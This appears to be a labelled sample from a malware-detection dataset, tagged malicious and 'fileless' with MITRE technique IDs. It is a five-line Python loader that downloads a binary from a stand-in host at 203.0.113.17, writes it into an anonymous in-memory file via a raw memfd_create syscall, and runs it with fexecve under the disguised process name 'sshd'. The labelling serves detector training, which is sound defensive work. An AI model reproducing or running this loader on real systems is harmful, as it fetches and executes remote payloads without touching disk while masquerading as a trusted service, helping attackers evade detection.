# label: malicious family=fileless techniques=T1027.011,T1036.005,T1105,T1106,T1620 lines=3-6
import ctypes, os, requests
libc = ctypes.CDLL(None)
memfd = libc.syscall(319, b"", 1)
os.write(memfd, requests.get("http://203.0.113.17/bin").content)
os.fexecve(memfd, ["sshd"], dict(os.environ))
